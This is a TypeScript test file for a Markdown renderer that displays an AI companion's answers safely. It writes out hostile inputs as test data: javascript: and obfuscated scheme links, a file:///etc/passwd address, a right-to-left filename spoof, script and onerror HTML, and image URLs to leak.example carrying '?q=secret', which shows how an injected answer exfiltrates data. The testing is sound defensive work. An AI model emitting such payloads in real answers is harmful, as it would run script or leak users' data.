// The companion's answer as Markdown (issue 34): each construct of the safe
// subset becomes its element; raw HTML and images stay text; only an http(s)
// address becomes a link, shown with its full address.
import { describe, expect, test } from 'vitest';
import { answerPieces, textOf, type Piece } from '../../src/ui/markdown';
import { HOSTILE } from '../hostile-answer';

/** The pieces of `text`, each element written as a tag, for reading at a glance. */
function shown(text: string): string {
  const write = (p: Piece): string => {
    if (typeof p === 'string') return p;
    if (!('children' in p)) return `<${p.tag}>`;
    const inner = p.children.map(write).join('');
    if (p.tag === 'link') return `<link ${p.href}>${inner}</link>`;
    return p.tag === 'ol' ? `<ol ${p.start}>${inner}</ol>` : `<${p.tag}>${inner}</${p.tag}>`;
  };
  return answerPieces(text).map(write).join('');
}

/** Every element of some pieces, depth first. */
function elements(pieces: readonly Piece[]): Exclude<Piece, string>[] {
  return pieces.flatMap((p) => (typeof p === 'string' ? [] : [p, ...('children' in p ? elements(p.children) : [])]));
}

describe('the safe subset', () => {
  test.each([
    ['paragraphs', 'One.\n\nTwo.', '<p>One.</p><p>Two.</p>'],
    ['a line break within a paragraph', 'One\nTwo', '<p>One<br>Two</p>'],
    ['emphasis', 'a *b* __c__', '<p>a <em>b</em> <strong>c</strong></p>'],
    ['inline code, its content as written', 'run `rm -rf <x>` now', '<p>run <code>rm -rf <x></code> now</p>'],
    ['a fenced code block', '```js\nconst a = 1;\n\nf(a);\n```', '<pre><code>const a = 1;\n\nf(a);</code></pre>'],
    ['an indented code block', '    x = 1', '<pre><code>x = 1</code></pre>'],
    ['a bullet list', '- one\n- *two*', '<ul><li>one</li><li><em>two</em></li></ul>'],
    ['an ordered list from 3', '3. three\n4. four', '<ol 3><li>three</li><li>four</li></ol>'],
    ['a loose list keeps its paragraphs', '- one\n\n- two', '<ul><li><p>one</p></li><li><p>two</p></li></ul>'],
    ['a nested list', '- a\n  - b', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
    ['a block quote', '> said', '<blockquote><p>said</p></blockquote>'],
    ['a rule', 'a\n\n***\n\nb', '<p>a</p><hr><p>b</p>'],
    ['a heading is a bold paragraph', '## Steps\ntext', '<p><strong>Steps</strong></p><p>text</p>'],
    ['a table is its text, line by line', '| a | b |\n|---|---|\n| 1 | 2 |', '<p>| a | b |<br>|---|---|<br>| 1 | 2 |</p>'],
    ['strikethrough is its text', '~~no~~', '<p>~~no~~</p>'],
    ['entities are decoded, as text', 'a &amp; b &lt;i&gt;', '<p>a & b <i></p>'],
  ])('%s', (_what, text, want) => {
    expect(shown(text)).toBe(want);
  });
});

describe('links', () => {
  test('an http(s) link shows its label and its full address', () => {
    expect(shown('[the docs](https://docs.example.com/a?b=1&c=2)'))
      .toBe('<p><link https://docs.example.com/a?b=1&c=2>the docs (https://docs.example.com/a?b=1&c=2)</link></p>');
    expect(shown('[*bold* label](http://x.example/)')).toBe('<p><link http://x.example/><em>bold</em> label (http://x.example/)</link></p>');
  });

  test('an address that is its own label, an autolink or a bare address shows once, trailing punctuation left out', () => {
    expect(shown('[https://a.example/](https://a.example/)')).toBe('<p><link https://a.example/>https://a.example/</link></p>');
    expect(shown('<https://b.example/x>')).toBe('<p><link https://b.example/x>https://b.example/x</link></p>');
    expect(shown('See https://c.example/path.')).toBe('<p>See <link https://c.example/path>https://c.example/path</link>.</p>');
  });

  test('the address is kept as the model wrote it (no punycode, no re-encoding): what is shown is what the shell is asked to open', () => {
    expect(shown('[y](https://exämple.com/ä%20b?q=ü)')).toBe('<p><link https://exämple.com/ä%20b?q=ü>y (https://exämple.com/ä%20b?q=ü)</link></p>');
  });

  test('a name without a scheme is not guessed into a link', () => {
    expect(shown('see example.com or me@example.com')).toBe('<p>see example.com or me@example.com</p>');
  });

  test.each([
    ['javascript:', '[click](javascript:alert(1))', '<p>[click](javascript:alert(1))</p>'],
    ['javascript: hidden by an entity', '[click](java&#x09;script:alert(1))', '<p>click (java\tscript:alert(1))</p>'],
    ['an http address hidden by a tab', '[click](ht&#x09;tps://x.example/)', '<p>click (ht\ttps://x.example/)</p>'],
    ['data:', '[click](data:text/html,hi)', '<p>[click](data:text/html,hi)</p>'],
    ['a data: image address', '[click](data:image/png;base64,AAAA)', '<p>click (data:image/png;base64,AAAA)</p>'],
    ['file:', '[click](file:///etc/passwd)', '<p>[click](file:///etc/passwd)</p>'],
    ['a vbscript: autolink', '<vbscript:msgbox>', '<p><vbscript:msgbox></p>'],
    ['mailto:', '[mail](mailto:a@example.com)', '<p>mail (mailto:a@example.com)</p>'],
    ['a relative address', '[here](/settings)', '<p>here (/settings)</p>'],
    ['a right-to-left mark in the address', '[x](https://a.example/\u202Egnp.exe)', '<p>x (https://a.example/\u202Egnp.exe)</p>'],
  ])('%s is never a link: its label and address show as text', (_what, text, want) => {
    expect(shown(text)).toBe(want);
    expect(elements(answerPieces(text)).filter((e) => e.tag === 'link')).toEqual([]);
  });
});

describe('what an injected answer tries', () => {
  test('raw HTML is shown as the text it is, inline and as a block (a bare address in it is a link like any)', () => {
    expect(shown('Hi <img src=x onerror="window.__pwned=1"> <b>there</b>'))
      .toBe('<p>Hi <img src=x onerror="window.__pwned=1"> <b>there</b></p>');
    expect(shown('<script>window.__pwned=1</script>\n\n<iframe src="https://leak.example/"></iframe>'))
      .toBe('<p><script>window.__pwned=1</script></p><p><iframe src="<link https://leak.example/>https://leak.example/</link>"></iframe></p>');
  });

  test('an image is never loaded: its alt text and full address, as text, even inside a link', () => {
    expect(shown('![x](https://leak.example/?q=secret)')).toBe('<p>x (https://leak.example/?q=secret)</p>');
    expect(shown('![](https://leak.example/?q=secret "t")')).toBe('<p>https://leak.example/?q=secret</p>');
    expect(shown('[![logo](https://leak.example/i.png)](https://ok.example/)'))
      .toBe('<p><link https://ok.example/>logo (https://leak.example/i.png) (https://ok.example/)</link></p>');
    // A reference-style image too.
    expect(shown('![x][1]\n\n[1]: https://leak.example/?q=secret')).toBe('<p>x (https://leak.example/?q=secret)</p>');
  });

  test('every prefix of a hostile answer, as it streams, parses; its links are http(s) only', () => {
    for (let end = 0; end <= HOSTILE.length; end++) {
      const pieces = answerPieces(HOSTILE.slice(0, end));
      for (const e of elements(pieces)) if (e.tag === 'link') expect(e.href).toMatch(/^https?:\/\/[^\s"]+$/);
    }
    // The bare address of the raw HTML is a link; the one in the code block stays code.
    expect(elements(answerPieces(HOSTILE)).filter((e) => e.tag === 'link').map((e) => textOf([e]))).toEqual([
      'https://leak.example/img?q=secret', 'the docs (https://docs.example.com/start?lang=en)',
    ]);
  });
});
